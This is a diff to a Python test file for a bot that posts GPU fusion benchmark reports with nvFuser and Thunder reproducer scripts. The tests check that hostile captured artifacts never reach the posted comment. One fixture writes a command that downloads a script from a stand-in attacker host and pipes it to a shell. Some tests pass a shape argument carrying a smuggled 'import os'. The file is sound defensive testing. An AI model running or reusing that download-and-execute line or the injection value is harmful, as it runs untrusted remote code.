@@ -10,7 +10,7 @@ import pytest
 from paths import DATA, run_bot
 
 from bot.fusion.attribute import FUSER, THUNDER, attribute
-from bot.fusion.repro import reproducer, thunder_script
+from bot.fusion.repro import nvfuser_script, reproducer, thunder_script
 from bot.fusion.types import Finding
 from bot.tell.hints import fence as _fence
 
@@ -57,8 +57,27 @@ def test_the_thunder_reproducer_is_valid_python_and_follows_the_state() -> None:
         thunder_script("eager", "bfloat16", "2048x8192")
     with pytest.raises(ValueError):
         thunder_script("thunder-prims", "bfloat16", "2048x8192; import os")
-    with pytest.raises(ValueError, match="no captured nvFuser repro"):
-        reproducer("nvfuser", "bfloat16", "2048x8192", None, "stock")
+
+
+
+def test_the_nvfuser_reproducer_is_the_bots_own_whatever_was_captured() -> None:
+    """Issue 20: text from the run's artifact is never presented as something to run. A
+    capture whose repro.py.txt holds a command changes nothing: the script is written from
+    the point's parameters (the suite's definition and inputs) and is valid Python."""
+    from bot.fusion.types import PointCapture
+
+    head = PointCapture.__new__(PointCapture)  # never read: the capture is not consulted
+    what, script = reproducer("nvfuser", "bfloat16", "2048x8192", head, "stock")
+    assert what == "a script of the hand-written fusion (nvfuser_direct), written by the bot"
+    compile(script, "repro", "exec")
+    assert "torch.randn(2048, 8192, device='cuda', dtype=torch.bfloat16" in script
+    assert "DataType.BFloat16" in script and "fd.execute([x, rms, g, w])" in script
+    assert "os.system" not in script and "curl" not in script
+    fp32 = nvfuser_script("float32", "512x4096")
+    assert "fd.ops.cast" not in fp32 and "DataType.Float)" in fp32
+    for bad in (("bfloat16", "2048x8192; import os"), ("int8", "512x4096")):
+        with pytest.raises(ValueError):
+            nvfuser_script(*bad)
 
 
 def test_a_captured_script_cannot_close_the_fence() -> None:
@@ -243,3 +262,41 @@ def test_the_comment_shows_the_round_trip_of_the_originating_report() -> None:
     fold = section.split("</details>")[0]
     assert "**Likely owner: not clear**" in fold
     assert "Lightning-AI/lightning-thunder" not in fold and "NVIDIA/Fuser" not in fold
+
+
+def test_a_hostile_captured_repro_never_reaches_the_comment(tmp_path: Path) -> None:
+    """The nvFuser +5% pair (data/h200-states) with a capture whose nvFuser repro.py.txt is an
+    attacker's command (issue 20's staged case): the comment's reproducer is the bot's own
+    script, and not one line of the captured text is posted."""
+    import shutil
+
+    head = tmp_path / "head"
+    shutil.copytree(STOCK, head)
+    evil = "import os; os.system('curl -s https://evil.example/x.sh | sh')\n"
+    for repro in head.glob("*/nvfuser/repro.py.txt"):
+        repro.write_text(evil)
+    done = run_bot(
+        "report", "--results", str(DATA / "h200-states" / "results"), "--base", "6c840f30",
+        "--head", "93486aaf", "--captures-base", str(STOCK), "--captures-head", str(head),
+        "--format", "markdown",
+    )  # fmt: skip
+    assert done.returncode == 1, done.stderr
+    assert "**Reproducer** for nvfuser " in done.stdout
+    assert "written by the bot" in done.stdout and "from nvfuser_direct import" in done.stdout
+    assert "evil.example" not in done.stdout and "os.system" not in done.stdout
+
+
+def test_the_committed_h200_runs_are_of_the_scripts_the_bot_writes_now() -> None:
+    """data/h200-repro/bot_nvfuser_*: what ran on the H200 is what nvfuser_script writes today,
+    and each run finished (exit 0, its timing printed)."""
+    folder = DATA / "h200-repro"
+    runs = sorted(folder.glob("bot_nvfuser_*.py.txt"))
+    assert len(runs) == 3
+    for script in runs:
+        dtype, shape = script.name.removeprefix("bot_nvfuser_").removesuffix(".py.txt").split("_")
+        assert script.read_text(encoding="utf-8") == nvfuser_script(dtype, shape)
+        out = (folder / script.name.replace(".py.txt", ".out")).read_text(encoding="utf-8")
+        assert out.rstrip().endswith("rc=0") and "fusion (fd.execute): median " in out
+        median = out.split("fusion (fd.execute): median ", 1)[1].split(" us", 1)[0]
+        readme = " ".join((DATA / "README.md").read_text(encoding="utf-8").split())
+        assert f"{median} µs" in readme  # data/README.md quotes what the run printed
